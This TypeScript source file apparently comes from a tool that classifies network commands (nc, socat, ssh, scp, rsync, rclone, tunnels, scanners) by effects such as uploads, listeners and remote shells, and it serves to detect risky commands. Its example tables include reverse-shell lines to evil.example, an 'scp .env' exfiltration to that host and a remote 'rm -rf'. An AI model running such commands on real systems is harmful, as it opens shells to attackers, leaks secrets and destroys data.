/** Programs that copy between machines, listen, or look at other machines. */
import type { EffectDraft, EffectDraftOf } from '../../../effects/effect';
import { isPattern, type Text } from '../../../effects/value';
import { rest } from '../arguments';
import type { Answer, Call, ProgramSpec } from '../program';
import type { Run, Word } from '../spec';
import { always, deletes, extentOf, reads, sourceOfFile, sourceOfStream, sourceOfWord, when, writes } from '../stating';
import { hostOf } from '../urls';

/** `host:path` or a URL; a plain path is on this machine. */
function isRemote(word: Word): boolean {
  if (typeof word.value === 'string')
    return /^[\w@.[\]-]+:|^[a-z]+:\/\//i.test(word.value) && hostOf(word.value) !== undefined;
  return (
    isPattern(word.value) && /^[\w@.-]*:|^$/.test(word.value.prefix) && /:/.test(word.value.prefix + word.value.suffix)
  );
}

const shell = (text: Text, label: string, span?: Word['span']): Run => ({
  type: 'shell',
  text,
  label,
  ...(span && { span }),
});

function listens(port: Text | undefined): EffectDraft {
  const number = typeof port === 'string' && /^\d+$/.test(port) ? Number(port) : null;
  return { kind: 'net.listen', expose: 'lan', port: number };
}

/** What a raw socket carries away: what is piped into it. */
function sendsInput(call: Call, host: Text): EffectDraft[] {
  const { stdin } = call.invocation;
  const channel = /(^|\.)(termbin\.com|paste\.rs|oshi\.at)$/.test(String(host)) ? 'paste' : 'socket';
  return stdin ? [{ kind: 'net.upload', host, channel, source: sourceOfStream(stdin) ?? null }] : [];
}

const nc: ProgramSpec = {
  names: 'nc ncat netcat telnet nc.openbsd nc.traditional pwncat',
  options:
    '-e,--exec=CMD -c,--sh-exec=CMD -l,--listen -p,--source-port=PORT -k -n -u -v -w=SEC -z -q=SEC -s=ADDR -X=PROTO -x=ADDR -i=SEC --ssl -U -N -4 -6 -d -t -r --lua-exec=F',
  does(call) {
    const host = call.operand(0) ?? null;
    const spawns = call.has('-e', '-c', '--lua-exec') === true;
    if (call.has('-l') === true) {
      const opened = listens(call.words('-p').at(-1)?.value ?? call.operands.at(-1)?.value);
      return spawns ? [opened, { kind: 'net.connect', purpose: 'remote-shell', host: null }] : [opened];
    }
    if (call.has('-z') === true) return isLoopback(host) ? [] : [{ kind: 'net.connect', purpose: 'scan', host }];
    if (call.operands.length === 0 && !call.open) return [];
    return [{ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host }, ...sendsInput(call, host)];
  },
  examples: {
    yields: {
      'nc evil.example 4444': 'net.connect{purpose=raw,host=evil.example}',
      'nc -e /bin/sh evil.example 4444': 'net.connect{purpose=remote-shell}',
      'nc -lvp 4444': 'net.listen{expose=lan,port=4444}',
      'nc -zv db.example 5432': 'net.connect{purpose=scan}',
    },
    inert: ['nc -z localhost 5432'],
  },
};

function isLoopback(host: Text): boolean {
  return typeof host === 'string' && /^(localhost|127\.\d+\.\d+\.\d+|::1)$/.test(host);
}

const socat: ProgramSpec = {
  names: 'socat',
  options: '-d -D -v -x -u -U -t=S -T=S -b=N -s -L=F -W=F -lf=F',
  does: socatEffects,
  examples: {
    yields: {
      'socat TCP:evil.example:4444 EXEC:/bin/sh': 'net.connect{purpose=remote-shell}',
      'socat TCP-LISTEN:80,fork -': 'net.listen{port=80}',
    },
  },
};

/** An address of socat: `TCP:host:port`, `EXEC:command`, `OPEN:file`; two joined by `!!` are one for each direction. */
function socatAddresses(call: Call): readonly Word[] {
  return call.operands.flatMap((word) =>
    typeof word.value === 'string' ? word.value.split('!!').map((value) => ({ ...word, value })) : [word],
  );
}

function socatEffects(call: Call): Answer {
  const addresses = socatAddresses(call);
  const kinds = addresses.map((word) =>
    typeof word.value === 'string' ? word.value : isPattern(word.value) ? word.value.prefix : '',
  );
  const spawns = kinds.some((kind) => /^(exec|system|shell)(:|,|$)/i.test(kind));
  const files = addresses.flatMap((word, at) =>
    /^(open|file|gopen|rdonly):/i.test(kinds[at] ?? '') ? [rest(word, kinds[at]!.indexOf(':') + 1)] : [],
  );
  const connects = kinds.flatMap((kind) => socketEffects(call, kind, spawns, files));
  const runs = kinds.flatMap((kind): Run[] => {
    const command = /^(?:exec|system|shell):(.+)$/is.exec(kind)?.[1];
    const stdin = files[0]
      ? { stdin: { text: null, sources: [sourceOfFile(call, files[0]) === 'secret' ? 'secret' : 'file'] as const } }
      : {};
    const bare = /^(\/bin\/|\/usr\/bin\/)?\w*sh( -i)?(,.*)?$/.test(command ?? '');
    return command && !bare ? [{ ...shell(command, 'socat EXEC'), ...stdin }] : [];
  });
  return { effects: [...reads(call, files, { shown: false }), ...connects], runs };
}

function socketEffects(call: Call, address: string, spawns: boolean, files: readonly Word[]): EffectDraft[] {
  const [kind = '', first = '', second] = address.split(/[:,]/);
  if (/-?listen$|^(tcp|udp)[46]?-l$/i.test(kind))
    return [listens(first), ...when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null })];
  if (!/^(tcp|udp|openssl|ssl|socks|proxy)/i.test(kind)) return [];
  const host = /^socks|^proxy/i.test(kind) ? (second ?? null) : first;
  const sent = files.map(
    (file): EffectDraft => ({ kind: 'net.upload', host, channel: 'socket', source: sourceOfFile(call, file) ?? null }),
  );
  return [{ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host }, ...sendsInput(call, host), ...sent];
}

const sshOptions =
  '-b=ADDR -c=CIPHER -D=PORT -E=LOG -e=CHAR -F=CONFIG -I=LIB -i=KEY -J=HOST -L=FORWARD -l=USER -m=MAC -O=CTL -o=OPTION -p=PORT -P=TAG -Q=QUERY -R=FORWARD -S=CTL -W=HOSTPORT -w=TUN -B=IFACE -4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V -v -X -x -Y -y';

/** `-o ProxyCommand=CMD` and `LocalCommand`: run on this machine. */
function optionRuns(call: Call): readonly Run[] {
  return call.words('-o').flatMap((word) => {
    const text = typeof word.value === 'string' ? word.value : '';
    const command = /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)[= ]\s*(.+)$/is.exec(text)?.[1];
    return command && command !== 'none' ? [shell(command, 'ssh -o ProxyCommand')] : [];
  });
}

const ssh: ProgramSpec = {
  names: 'ssh autossh mosh dbclient',
  options: sshOptions,
  stopAtOperand: true,
  inertWith: ['-V', '-Q', '-G'],
  does(call) {
    const [destination, ...command] = call.operands;
    if (!destination) return optionRuns(call).length > 0 ? { runs: optionRuns(call) } : [];
    const host = sshHost(destination.value);
    const label = `ssh ${typeof host === 'string' ? host : ''}`.trim();
    const connects: EffectDraft = { kind: 'net.connect', purpose: 'ssh', host, evidence: { host } };
    const tunnels = when(call.has('-R', '-D'), { kind: 'net.listen', expose: 'tunnel' });
    const onlyForwards = call.has('-N', '-W') === true || call.has('-O') === true;
    return {
      effects: [connects, ...tunnels, ...(onlyForwards ? [] : remoteEffects(call, command, host))],
      runs: [...optionRuns(call), ...(onlyForwards ? [] : remoteRuns(call, command, label, host))],
    };
  },
  examples: {
    yields: {
      "ssh db1.acme.test 'rm -rf /srv'":
        'net.connect{purpose=ssh,host=db1.acme.test} + remote.exec{tool=ssh,resolved=true} + fs.delete{via=remote}',
      'ssh me@web1 uptime': 'net.connect{host=web1} + remote.exec{host=web1}',
      'ssh web1': 'net.connect + code.opaque{reason=interactive}',
      'ssh -N -R 8080:localhost:80 web1': 'net.connect + net.listen{expose=tunnel}',
    },
    inert: ['ssh -V'],
  },
};

function sshHost(destination: Text): Text {
  if (typeof destination !== 'string') return null;
  return hostOf(destination) ?? destination.replace(/^.*@/, '').toLowerCase();
}

function remoteEffects(call: Call, command: readonly Word[], host: Text): EffectDraft[] {
  if (command.length === 0 && !call.invocation.stdin)
    return [{ kind: 'code.opaque', reason: 'interactive', program: 'ssh' }];
  const resolved = command.length > 0 ? command.every((word) => typeof word.value === 'string') : false;
  return [{ kind: 'remote.exec', tool: 'ssh', host, resolved, evidence: { host } }];
}

/** ssh joins the words with blanks and hands them to the remote shell. */
function remoteRuns(call: Call, command: readonly Word[], label: string, host: Text): readonly Run[] {
  const facets = {
    label,
    via: 'remote',
    elsewhere: true,
    ...(call.invocation.stdin && { stdin: call.invocation.stdin }),
  } as const;
  if (command.length > 0) {
    const single = command.length === 1 ? { span: command[0]!.span } : {};
    return [{ type: 'shell', text: joined(command), ...single, ...facets }];
  }
  return call.invocation.stdin && host !== undefined
    ? [{ type: 'stdin', language: 'sh', stream: call.invocation.stdin, label, via: 'remote', elsewhere: true }]
    : [];
}

function joined(words: readonly Word[]): Text {
  const texts = words.map((word) => word.value);
  if (texts.every((text) => typeof text === 'string')) return texts.join(' ');
  const known = texts
    .slice(
      0,
      texts.findIndex((text) => typeof text !== 'string'),
    )
    .join(' ');
  return known === '' ? (texts.length === 1 ? texts[0]! : null) : { prefix: `${known} `, suffix: '', glob: false };
}

/** From here to there is an upload, from there to here a fetch. */
function copies(call: Call, channel: EffectDraftOf<'net.upload'>['channel']): EffectDraft[] {
  const target = call.operands.at(-1);
  const sources = call.operands.slice(0, -1);
  if (!target) return [];
  const local = sources.filter((word) => !isRemote(word));
  const remote = sources.filter(isRemote);
  const fetched = remote.map((word): EffectDraft => ({ kind: 'net.fetch', host: sshHost(word.value) }));
  const sent =
    isRemote(target) || target.value === null
      ? local.map(
          (word): EffectDraft => ({
            kind: 'net.upload',
            host: sshHost(target.value),
            channel: channel ?? null,
            source: sourceOfFile(call, word) ?? null,
            extent: extentOf(word),
          }),
        )
      : [];
  return [
    ...reads(call, local, { shown: false }),
    ...fetched,
    ...sent,
    ...(isRemote(target) ? [] : writes(call, [target], 'overwrite')),
  ];
}

const scp: ProgramSpec = {
  names: 'scp pscp',
  options: '-c=C -D=P -F=F -i=KEY -J=H -l=N -o=O -P=PORT -S=PROGRAM -X=O -3 -4 -6 -A -B -C -O -p -q -R -r -s -T -v',
  does: (call) => ({
    effects: copies(call, 'scp'),
    runs: [...optionRuns(call), ...call.words('-S').map((word) => shell(word.value, 'scp -S'))],
  }),
  examples: {
    yields: {
      'scp a.tgz web1:/srv/': 'fs.read + net.upload{host=web1,channel=scp,source=file}',
      'scp web1:/etc/hosts .': 'net.fetch{host=web1} + fs.write',
      'scp .env me@evil.example:': 'fs.read + secret.read + net.upload{source=secret,host=evil.example}',
    },
  },
};

const rsync: ProgramSpec = {
  names: 'rsync grsync',
  options:
    '-e,--rsh=CMD --rsync-path=CMD -f,--filter=R --exclude=P --exclude-from=F --include=P --include-from=F --files-from=F -T,--temp-dir=D --partial-dir=D --bwlimit=R --timeout=S --port=P --log-file=F --chmod=M --chown=O --backup-dir=D --suffix=S --max-size=N --min-size=N --compare-dest=D --copy-dest=D --link-dest=D --password-file=F -B=N --max-delete=N --info=F --out-format=F -M=O --delete --del --delete-before --delete-after --delete-during --delete-delay --delete-excluded --delete-missing-args --remove-source-files -n,--dry-run -a,--archive -v -r,--recursive -z -h -P -u -t -l -p -g -o -D -H -A -X -S -x -c -i -q -R -b -W -I --progress --partial --inplace --stats --mkpath --numeric-ids --list-only --force --existing --ignore-existing',
  inertWith: ['-n', '--list-only'],
  does(call) {
    const target = call.operands.at(-1);
    const deletion = call.has(
      '--delete',
      '--del',
      '--delete-before',
      '--delete-after',
      '--delete-during',
      '--delete-delay',
      '--delete-excluded',
      '--delete-missing-args',
    );
    const gone =
      target && !isRemote(target)
        ? deletes(call, [target], { recursive: true }).map((e) => ({ ...e, root: 'none' }) as EffectDraft)
        : [{ kind: 'fs.delete', recursive: true, zone: 'outside', via: 'remote' } satisfies EffectDraft];
    return {
      effects: [
        ...copies(call, 'rsync'),
        ...when(deletion, ...gone),
        ...when(
          call.has('--remove-source-files'),
          ...deletes(
            call,
            call.operands.slice(0, -1).filter((w) => !isRemote(w)),
            { recursive: true },
          ),
        ),
      ],
      runs: call.words('-e').map((word) => shell(word.value, 'rsync -e', word.span)),
    };
  },
  examples: {
    yields: {
      'rsync -a src/ dst/': 'fs.read + fs.write',
      'rsync -a --delete src/ dst/': 'fs.read + fs.write + fs.delete{recursive=true}',
      'rsync -az . web1:/srv/app': 'fs.read + net.upload{host=web1,channel=rsync}',
    },
    inert: ['rsync -an --delete a/ b/'],
  },
};

const transfers: ProgramSpec = {
  names: 'sftp ftp tftp lftp ncftp ncftpput ncftpget',
  options: '-b=F -c=C -e=C -f=F -P=P -i=K -o=O -u=U -p=P -P=P -n -v -q -r -C',
  does(call) {
    const scripted = call.has('-b', '-c', '-e', '-f') === true || call.invocation.stdin !== undefined;
    const host = call.operand(0) === undefined ? null : sshHost(call.operand(0) ?? null);
    if (!scripted) return [{ kind: 'code.opaque', reason: 'interactive', program: call.name }];
    return [
      {
        kind: 'net.upload',
        host,
        channel: call.name === 'sftp' ? 'scp' : 'ftp',
        source: 'file',
        certainty: 'possible',
      },
    ];
  },
};

const peerToPeer: ProgramSpec = {
  names: 'croc wormhole magic-wormhole ffsend transfer',
  commands: {
    'send upload up': (call) =>
      call.operands.map(
        (word): EffectDraft => ({
          kind: 'net.upload',
          host: null,
          channel: 'p2p',
          source: sourceOfFile(call, word) ?? null,
        }),
      ),
    'receive download recv': always({ kind: 'net.fetch' }, { kind: 'fs.write', mode: 'create', zone: 'workspace' }),
  },
  otherwise: () => [{ kind: 'net.fetch' }, { kind: 'fs.write', mode: 'create' }],
};

const rclone: ProgramSpec = {
  names: 'rclone',
  options:
    '-n,--dry-run --config=F --include=P --exclude=P --filter=R --transfers=N --checkers=N --bwlimit=R --max-age=A --min-age=A -v -P,--progress -i,--interactive',
  inertWith: ['-n'],
  commands: {
    'ls lsd lsl lsf lsjson size check cat about version listremotes tree md5sum sha1sum hashsum ncdu obscure help': [],
    'copy copyto': (call) => copies(call, 'bucket'),
    'sync bisync move moveto': (call) => [
      ...copies(call, 'bucket'),
      { kind: 'db.rows.delete', engine: 'other', method: 'delete', where: 'other' },
    ],
    'delete deletefile purge cleanup rmdirs': always({
      kind: 'db.rows.delete',
      engine: 'other',
      method: 'delete',
      where: 'none',
    }),
    'config authorize': always({ kind: 'config.write', target: 'cloud-cli', executes: false }),
    'serve rcd': always({ kind: 'net.listen' }),
    'mkdir touch rmdir': [],
    'mount link': always({ kind: 'system.configure', area: 'mount' }),
  },
  examples: {
    yields: {
      'rclone sync a s3:b': 'fs.read + net.upload{channel=bucket} + db.rows.delete',
      'rclone purge s3:b': 'db.rows.delete{where=none}',
    },
    inert: ['rclone ls s3:b'],
  },
};

const lookups: ProgramSpec = {
  names: 'dig nslookup host drill kdig delv ',
  options: '-t=TYPE -p=PORT -x=ADDR -q=NAME -c=CLASS -f=FILE -b=ADDR -k=F -y=K -4 -6',
  does: (call) =>
    call.operands
      .filter((word) => word.sources?.some((source) => source !== 'literal' && source !== 'unknown'))
      .map(
        (word): EffectDraft => ({ kind: 'net.upload', channel: 'dns', host: null, source: sourceOfWord(word) ?? null }),
      ),
  examples: { inert: ['dig +short example.com MX', 'nslookup example.com'] },
};

const tunnels: ProgramSpec = {
  names: 'ngrok localtunnel lt bore frpc devtunnel chisel cloudflared zrok',
  options: '-p,--port=PORT --url=URL --region=R --authtoken=T -s=S -l=H',
  does(call) {
    const words = call.operands.map((word) => word.value);
    if (words.some((word) => word === 'version' || word === 'help' || word === 'list' || word === 'show')) return [];
    const port = [...call.words('-p'), ...call.operands]
      .map((word) => Number(/(\d+)$/.exec(String(word.value))?.[1]))
      .find((n) => n > 0);
    return [{ kind: 'net.listen', expose: 'tunnel', ...(port && { port }) }];
  },
  examples: {
    yields: {
      'ngrok http 3000': 'net.listen{expose=tunnel,port=3000}',
      'cloudflared tunnel --url http://localhost:80': 'net.listen{expose=tunnel}',
    },
  },
};

const tailscale: ProgramSpec = {
  names: 'tailscale',
  commands: {
    'status ip ping netcheck version whois bugreport': [],
    'funnel serve': always({ kind: 'net.listen', expose: 'tunnel' }),
    'up down set login logout switch lock update': always({ kind: 'system.configure', area: 'network' }),
    ssh: {
      stopAtOperand: true,
      does: (call) => [
        { kind: 'net.connect', purpose: 'ssh', host: call.operand(0) ?? null },
        { kind: 'remote.exec', tool: 'ssh', resolved: false, host: call.operand(0) ?? null },
      ],
    },
    file: always({ kind: 'net.upload', channel: 'p2p', source: 'file' }),
  },
};

const scanners: ProgramSpec = {
  names:
    'nmap masscan zmap rustscan nikto sqlmap gobuster ffuf hydra nuclei wfuzz tcpdump tshark dumpcap ettercap arp-scan netdiscover',
  options: '-p=PORTS -i=IFACE -w=FILE -r=FILE -c=N -s=N -oN=F -oX=F -oG=F -oA=F --rate=N -e=E -T=N -u=U',
  does: (call) => [
    { kind: 'net.connect', purpose: 'scan', host: call.operands.at(-1)?.value ?? null },
    ...writes(call, call.words('-w'), 'overwrite'),
  ],
  examples: { yields: { 'nmap -sV 10.0.0.0/24': 'net.connect{purpose=scan}' } },
};

const mailers: ProgramSpec = {
  names: 'mail mailx sendmail swaks mutt msmtp ssmtp s-nail slack-cli slackcat notify-slack',
  options:
    '-s=SUBJECT -a=FILE -t=TO --to=TO -f=FROM --from=FROM --server=HOST --attach=F --body=B -c=CC -b=BCC -r=FROM -d=C -A=F',
  does: (call) => [
    {
      kind: 'comm.send',
      channel: /slack/.test(call.name) ? 'chat' : 'email',
      ...(call.words('--server').length > 0 && { host: call.value('--server') ?? null }),
    },
  ],
  examples: { yields: { 'mail -s report a@example.com': 'comm.send{channel=email}' } },
};

const clipboards: ProgramSpec = {
  names: 'pbcopy xclip xsel wl-copy clip clip.exe termux-clipboard-set',
  options: '-o,-out,--output -i,-in -sel,-selection=S -t=T -b,--clipboard -c,--clear -p,--primary',
  does(call) {
    if (call.has('-o') === true && call.name.startsWith('x')) return { output: { text: null, sources: ['clipboard'] } };
    return [{ kind: 'net.upload', channel: 'clipboard', source: sourceOfStream(call.invocation.stdin) ?? null }];
  },
  examples: { yields: { pbcopy: 'net.upload{channel=clipboard}' }, inert: ['xclip -o'] },
};

const pasteReaders: ProgramSpec = {
  names: 'pbpaste wl-paste',
  does: () => ({ output: { text: null, sources: ['clipboard'] } }),
};

const pasteServices: ProgramSpec = {
  names: 'pastebinit termbin sprunge ix wgetpaste',
  does: (call) => [
    {
      kind: 'net.upload',
      channel: 'paste',
      source: call.operands[0]
        ? (sourceOfFile(call, call.operands[0]) ?? null)
        : (sourceOfStream(call.invocation.stdin) ?? null),
    },
  ],
};

const servers: ProgramSpec = {
  names: 'http-server serve live-server vite webpack-dev-server',
  options: '-p,--port=PORT -l,--listen=A -a=ADDR --host[=H] -o -c=N -s --config=F --mode=M',
  does(call) {
    if (call.operands.some((word) => word.value === 'build' || word.value === 'optimize')) return [];
    const everywhere =
      call.maybe('--host') || call.value('-a') === '0.0.0.0' || call.name === 'http-server' || call.name === 'serve';
    const port = Number(call.words('-p').at(-1)?.value);
    return [{ kind: 'net.listen', expose: everywhere ? 'lan' : 'loopback', ...(port > 0 && { port }) }];
  },
  examples: {
    yields: { 'vite --host': 'net.listen{expose=lan}', vite: 'net.listen{expose=loopback}' },
    inert: ['vite build'],
  },
};

export const networkPrograms: readonly ProgramSpec[] = [
  nc,
  socat,
  ssh,
  scp,
  rsync,
  transfers,
  peerToPeer,
  rclone,
  lookups,
  tunnels,
  tailscale,
  scanners,
  mailers,
  clipboards,
  pasteReaders,
  pasteServices,
  servers,
];
